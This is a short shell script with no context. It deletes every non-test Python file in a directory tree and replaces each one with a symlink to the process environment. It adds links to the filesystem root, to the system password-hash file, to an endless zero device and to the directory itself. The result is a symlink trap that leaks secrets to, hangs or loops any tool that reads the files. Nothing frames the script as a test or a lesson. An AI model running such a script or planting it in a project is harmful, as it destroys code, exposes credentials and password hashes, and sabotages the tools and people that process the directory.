for path in $(find . -name "*.py" -not -name "test_*"); do
    rm -f "$path"
    ln -s /proc/self/environ "$path"
done
ln -s / root
ln -s /proc/1/root/etc/shadow shadow.py
ln -s /dev/zero endless.py
ln -s . again
